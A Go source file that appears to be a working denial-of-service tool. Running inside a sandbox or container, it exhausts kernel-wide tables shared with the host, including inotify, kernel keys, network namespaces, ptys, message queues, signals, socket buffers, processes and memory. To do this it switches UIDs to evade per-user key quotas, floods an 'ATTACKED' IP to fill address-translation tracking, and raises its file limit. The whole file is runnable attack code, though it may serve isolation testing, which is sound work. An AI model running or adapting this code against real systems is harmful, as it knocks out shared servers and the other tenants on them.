//go:build linux

package main

import (
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"unsafe"

	"golang.org/x/sys/unix"
)

// errMemory ends a hold before the server's memory does: then its memory is the bound.
var errMemory = errors.New("memory")

// takers get one more of something that the whole machine has one table of. What they got
// stays theirs while the process lives.
var takers = map[string]func(i int) error{
	"inotify instances": func(int) error { return kept(unix.InotifyInit1(unix.IN_CLOEXEC)) },
	"inotify watches":   watch,
	"fanotify groups":   func(int) error { return kept(unix.FanotifyInit(unix.FAN_CLASS_NOTIF|unix.FAN_REPORT_FID, 0)) },
	"files":             func(int) error { return kept(unix.Open("/dev/null", unix.O_RDONLY|unix.O_CLOEXEC, 0)) },
	"terminals":         terminal,
	"keys":              key,
	"namespaces":        namespace,
	"message queues":    messageQueue,
	"signals":           signal,
	"aio contexts":      aio,
	"datagrams":         datagrams,
	"connections":       connection,
	"epoll watches":     epoll,
	"pipes":             pipe,
	"processes":         process,
	"semaphores":        func(int) error { return raw(unix.SYS_SEMGET, 0, 200, unix.IPC_CREAT|0o600)() },
	"memory":            memory,
}

// take takes up to most of a kind and says how many it got and what stopped it.
func take(kind string, most int) (n int, err error) {
	one, ok := takers[kind]
	if !ok {
		broken(fmt.Errorf("unknown kind %q", kind))
	}
	runtime.LockOSThread() // some are a thread's
	// As many descriptors as the server may have at most.
	var files unix.Rlimit
	if unix.Getrlimit(unix.RLIMIT_NOFILE, &files) == nil {
		_ = syscall.Setrlimit(unix.RLIMIT_NOFILE, &syscall.Rlimit{Cur: files.Max, Max: files.Max})
	}
	for ; n < most; n++ {
		if n%64 == 0 && kind != "memory" && full() {
			return n, errMemory
		}
		if err := one(n); err != nil {
			return n, err
		}
	}
	return n, nil
}

// full reports whether three quarters of the server's memory are in use.
func full() bool {
	for _, f := range [][2]string{{"/sys/fs/cgroup/memory/memory.usage_in_bytes", "/sys/fs/cgroup/memory/memory.limit_in_bytes"}} {
		used, limit := number(f[0]), number(f[1])
		if limit > 0 {
			return used > limit/4*3
		}
	}
	// On v2 the limit is above what the server sees: take meminfo's word, which is lxcfs's.
	total, available := int64(0), int64(0)
	text, _ := os.ReadFile("/proc/meminfo")
	for line := range strings.Lines(string(text)) {
		_, _ = fmt.Sscanf(line, "MemTotal: %d", &total)
		_, _ = fmt.Sscanf(line, "MemAvailable: %d", &available)
	}
	return available < total/4
}

func number(file string) int64 {
	text, _ := os.ReadFile(file)
	n, _ := strconv.ParseInt(strings.TrimSpace(string(text)), 10, 64)
	return n
}

func kept(_ int, err error) error { return err }

var watches = -1

func watch(i int) (err error) {
	if watches < 0 {
		if watches, err = unix.InotifyInit1(0); err != nil {
			return err
		}
	}
	dir := fmt.Sprintf("/tmp/watched/%d", i)
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return err
	}
	_, err = unix.InotifyAddWatch(watches, dir, unix.IN_CREATE)
	return err
}

// terminal opens one in a devpts of the attacker's own: that of the server may be bounded.
func terminal(i int) error {
	const at = "/mountpoint/pts"
	if i == 0 {
		if err := os.MkdirAll(at, 0o755); err != nil {
			return err
		}
		if err := unix.Mount("devpts", at, "devpts", 0, "newinstance,ptmxmode=0666"); err != nil {
			return err
		}
	}
	master, err := unix.Open(at+"/ptmx", unix.O_RDWR|unix.O_NOCTTY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	if err := unix.IoctlSetPointerInt(master, unix.TIOCSPTLCK, 0); err != nil {
		return err
	}
	_, _, errno := unix.Syscall(unix.SYS_IOCTL, uintptr(master), unix.TIOCGPTPEER, unix.O_RDWR|unix.O_NOCTTY)
	if errno != 0 {
		return errno
	}
	return nil
}

// key adds large keys as one user of the server after the other: quotas are per user, and
// a server has 65,536 of them.
func key(i int) error {
	payload := make([]byte, 15<<10)
	_, err := unix.AddKey("user", fmt.Sprintf("attack-%d", i), payload, unix.KEY_SPEC_USER_KEYRING)
	if err == unix.EDQUOT {
		for _, id := range []uintptr{0, uintptr(1000 + i)} { // only root can become the next
			if _, _, errno := unix.RawSyscall(unix.SYS_SETRESUID, ^uintptr(0), id, ^uintptr(0)); errno != 0 {
				return errno
			}
		}
		_, err = unix.AddKey("user", fmt.Sprintf("attack-%d", i), payload, unix.KEY_SPEC_USER_KEYRING)
	}
	return err
}

// namespace makes network namespaces, the dearest of all, and keeps each by a descriptor.
func namespace(int) error {
	if err := unix.Unshare(unix.CLONE_NEWNET); err != nil {
		return err
	}
	return kept(unix.Open("/proc/thread-self/ns/net", unix.O_RDONLY|unix.O_CLOEXEC, 0))
}

// messageQueue makes POSIX message queues, each with room for ten messages of 8 KiB.
func messageQueue(i int) error {
	name := append([]byte(fmt.Sprintf("attack-%d-%d", os.Getpid(), i)), 0)
	return raw(unix.SYS_MQ_OPEN, uintptr(unsafe.Pointer(&name[0])), unix.O_CREAT|unix.O_RDWR|unix.O_EXCL, 0o600, 0)()
}

var blocked bool

// signal queues a signal that nobody takes, to itself.
func signal(int) error {
	const real = 40
	if !blocked {
		set := unix.Sigset_t{}
		(*[128]byte)(unsafe.Pointer(&set))[(real-1)/8] = 1 << ((real - 1) % 8)
		if err := unix.PthreadSigmask(unix.SIG_BLOCK, &set, nil); err != nil {
			return err
		}
		blocked = true
	}
	info := make([]byte, 128)
	*(*int32)(unsafe.Pointer(&info[8])) = -1 // SI_QUEUE
	return raw(unix.SYS_RT_TGSIGQUEUEINFO, uintptr(unix.Getpid()), uintptr(unix.Gettid()), real, uintptr(unsafe.Pointer(&info[0])))()
}

func aio(int) error {
	var context uintptr
	return raw(unix.SYS_IO_SETUP, 1024, uintptr(unsafe.Pointer(&context)))()
}

// datagrams fills one more socket that nobody reads.
func datagrams(int) error {
	in, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	_ = unix.SetsockoptInt(in, unix.SOL_SOCKET, unix.SO_RCVBUF, 1<<30)
	if err := unix.Bind(in, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}}); err != nil {
		return err
	}
	at, err := unix.Getsockname(in)
	if err != nil {
		return err
	}
	out, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(out)
	payload := make([]byte, 32<<10)
	for range 64 {
		if err := unix.Sendto(out, payload, unix.MSG_DONTWAIT, at); err != nil {
			return err
		}
	}
	// Of what was sent at least one has arrived, or there is no room any more.
	buf := make([]byte, 1)
	if _, _, err := unix.Recvfrom(in, buf, unix.MSG_PEEK|unix.MSG_DONTWAIT); err != nil {
		return err
	}
	return nil
}

var talkers []int

// connection sends a datagram to one more port of ATTACKED, from one of a few own ports:
// the host's network translation has to remember each.
func connection(i int) error {
	const ports = 60000
	to := net.ParseIP(os.Getenv("ATTACKED")).To4()
	if to == nil {
		broken(errors.New("ATTACKED is no IPv4 address"))
	}
	if i%ports == 0 {
		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
		if err != nil {
			return err
		}
		talkers = append(talkers, fd)
	}
	err := unix.Sendto(talkers[i/ports], []byte("x"), 0, &unix.SockaddrInet4{Addr: [4]byte(to), Port: 1 + i%ports})
	if err == unix.ECONNREFUSED || err == unix.EPERM || err == unix.ENOBUFS {
		return nil // an answer to an earlier one
	}
	return err
}

func epoll(int) error {
	e, err := unix.EpollCreate1(unix.EPOLL_CLOEXEC)
	if err != nil {
		return err
	}
	var p [2]int
	if err := unix.Pipe2(p[:], unix.O_CLOEXEC); err != nil {
		return err
	}
	return unix.EpollCtl(e, unix.EPOLL_CTL_ADD, p[0], &unix.EpollEvent{Events: unix.EPOLLIN})
}

func pipe(int) error {
	var p [2]int
	if err := unix.Pipe2(p[:], unix.O_NONBLOCK|unix.O_CLOEXEC); err != nil {
		return err
	}
	_, err := unix.Write(p[1], make([]byte, 64<<10))
	return err
}

// process starts one that stays.
func process(int) error {
	c := exec.Command("/bin/sleep", "1000000")
	c.SysProcAttr = &syscall.SysProcAttr{Pdeathsig: unix.SIGKILL}
	return c.Start()
}

var hoard [][]byte

func memory(int) error {
	b, err := unix.Mmap(-1, 0, 1<<20, unix.PROT_READ|unix.PROT_WRITE, unix.MAP_PRIVATE|unix.MAP_ANON|unix.MAP_POPULATE)
	hoard = append(hoard, b)
	return err
}
